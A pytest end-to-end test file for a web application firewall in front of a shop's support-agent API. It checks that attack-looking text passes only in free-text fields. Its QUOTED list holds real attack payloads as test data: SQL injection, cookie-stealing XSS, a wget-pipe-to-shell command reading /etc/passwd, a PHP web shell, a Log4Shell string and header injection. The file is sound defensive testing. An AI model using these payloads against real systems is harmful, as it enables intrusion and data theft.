"""Customers may write anything, in the fields of running text and nowhere else."""

import json
import os
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from onebox.front_door import Parts

from .conftest import OpenDoor
from .messages import messages
from .upstream import Upstream

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]
#: Every field of running text, on its own path.
TEXTS = [
    ("/api/agent/messages", "text"), ("/api/agent/staff/messages", "text"), ("/chat", "message"),
    ("/api/agent/approvals", "notes"), ("/api/agent/feedback", "comment"), ("/api/agent/staff/handback", "note"),
    ("/api/agent/knowledge/gaps/gap_0123abcd/dismiss", "note"),
]  # fmt: skip
#: What customers of shops quote; each would be an attack in any other place.
QUOTED = [
    "SELECT * FROM orders WHERE id = 1 OR 1=1; DROP TABLE users; --",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "$(cat /etc/passwd); wget http://shop.example/x | sh",
    "../../../../etc/passwd",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://shop.example/a}",
    "java.lang.Runtime.getRuntime().exec('ls')",
    "POST /api HTTP/1.1\r\nContent-Type: text/html\r\nSet-Cookie: a=b",
]


@pytest.mark.parametrize(("path", "field"), [TEXTS[0], TEXTS[2]])
async def test_what_customers_write_comes_through_as_it_was_written(
    client: httpx.AsyncClient, upstream: Upstream, path: str, field: str
) -> None:
    written = messages(int(os.environ.get("AIGUY_TEST_MESSAGES", "600")) // 2, seed=len(path))
    refused = [one for one in written if (await client.post(path, json={field: one})).status_code != 200]
    assert refused == []
    assert [json.loads(seen.body)[field] for seen in upstream.seen] == written


@pytest.mark.parametrize("quoted", QUOTED)
@pytest.mark.parametrize(("path", "field"), TEXTS)
async def test_a_text_passes_in_its_field_and_nowhere_else(
    client: httpx.AsyncClient, upstream: Upstream, path: str, field: str, quoted: str
) -> None:
    async def status(where: str, body: dict[str, object], method: str = "POST") -> int:
        return (await client.request(method, where, json=body)).status_code

    assert await status(path, {field: quoted}) == 200
    upstream.seen.clear()
    assert await status(path, {field: "hello", "other": quoted}) == 403, "in another field"
    assert await status(path, {field: {"deeper": quoted}}) == 403, "below the field"
    assert await status("/api/agent/conversations", {field: quoted}) == 403, "on another path"
    assert await status(path, {field: quoted}, "PUT") == 403, "by another method"
    assert await status(path + "/", {field: quoted}) == 403, "beside the path"
    assert upstream.seen == []


CONSOLE = "/console/conversations/cnv_0123456789abcdef"


@pytest.mark.parametrize("quoted", QUOTED)
@pytest.mark.parametrize(
    ("path", "field"),
    [(f"{CONSOLE}/messages", "text"), (f"{CONSOLE}/notes", "note"), (f"{CONSOLE}/handback", "note"),
     ("/console/approvals", "notes"), ("/console/macros/new", "text"), ("/console/macros/new", "question"),
     ("/console/macros/mac_0123abcd", "text"), ("/console/macros/suggestions/mcs_0123abcd/approve", "question")],
)  # fmt: skip
async def test_what_staff_write_in_a_form_passes_in_its_field_and_nowhere_else(
    client: httpx.AsyncClient, upstream: Upstream, path: str, field: str, quoted: str
) -> None:
    async def status(where: str, fields: dict[str, str]) -> int:
        return (await client.post(where, data={"csrf": "0" * 64} | fields)).status_code

    assert await status(path, {field: quoted}) == 200
    upstream.seen.clear()
    assert await status(path, {field: "hello", "other": quoted}) == 403, "in another field"
    assert await status("/console/sign-in", {field: quoted}) == 403, "on another path"
    assert upstream.seen == []


async def test_the_name_of_a_json_field_is_no_way_round_in_queries_and_forms(
    client: httpx.AsyncClient, upstream: Upstream
) -> None:
    asked = await client.post("/chat", params={"json.message": QUOTED[0]}, json={"message": "hello"})
    filled = await client.post("/chat", data={"json.message": QUOTED[0]})
    assert (asked.status_code, filled.status_code) == (403, 403)
    assert upstream.seen == []


@pytest.mark.parametrize(
    "page",
    ["http://192.0.2.7/hat", "https://shop.example/hat?", "http://192.0.2.7/shop/?page=2&url=https://shop.example/"],
)
async def test_the_page_that_a_customer_looks_at_may_have_any_address(
    client: httpx.AsyncClient, upstream: Upstream, page: str
) -> None:
    async def status(context: dict[str, str], path: str = "/api/agent/conversations") -> int:
        return (await client.post(path, json={"context": context})).status_code

    assert await status({"page": page}) == 200
    assert json.loads(upstream.seen.pop().body) == {"context": {"page": page}}
    assert await status({"page": QUOTED[1]}) == 403, "no address"
    assert await status({"other": "http://192.0.2.7/c99.php?"}) == 403, "in another field"
    assert await status({"page": "http://192.0.2.7/c99.php?"}, "/api/agent/handoff") == 403, "on another path"
    assert upstream.seen == []


REFERERS = [{}, {"referer": "https://elsewhere.example/"}]
BODIES = {
    "/chat": {"session_id": "web-12345678", "message": "hello"},
    "/api/agent/conversations": {"session_id": "web-12345678", "context": {"language": "de"}},
}


@pytest.mark.parametrize("headers", REFERERS)
@pytest.mark.parametrize("path", BODIES)
async def test_a_session_id_needs_no_referer_in_json_and_is_refused_elsewhere(
    client: httpx.AsyncClient, path: str, headers: dict[str, str]
) -> None:
    async def status(where: str, **told: Any) -> int:
        return (await client.post(where, headers=headers, **told)).status_code

    assert await status(path, json=BODIES[path]) == 200
    assert await status(path, params={"session_id": "s-1"}, json=BODIES[path]) == 403
    assert await status(path, data={"session_id": "s-1"}) == 403
    assert await status("/api/agent/messages", params={"session_id": "s-1"}, json={}) == 403


@pytest.mark.parametrize("headers", REFERERS)
async def test_so_it_is_with_rules_that_know_the_name_in_json_too(
    another_door: OpenDoor, parts: Parts, upstream: Upstream, tmp_path: Path, headers: dict[str, str]
) -> None:
    """Other versions of CRS than Debian's take the field for an attempt to plant a session."""
    rules = tmp_path / "rules"
    shutil.copytree(parts.rules, rules)
    (fixation,) = rules.glob("REQUEST-943-*.conf")
    text = fixation.read_text("utf-8")
    fixation.write_text(text.replace("|session_id|", "|session_id|json\\.session_id|"), "utf-8")
    async with another_door(made_of=replace(parts, rules=rules)) as door, door.client() as client:
        for path, body in BODIES.items():
            assert (await client.post(path, json=body, headers=headers)).status_code == 200, path
        elsewhere = await client.post("/api/agent/messages", json={"session_id": "s-1"}, headers=headers)
        deeper = await client.put("/chat", json=BODIES["/chat"], headers=headers)
    assert (elsewhere.status_code, deeper.status_code) == (403, 403)
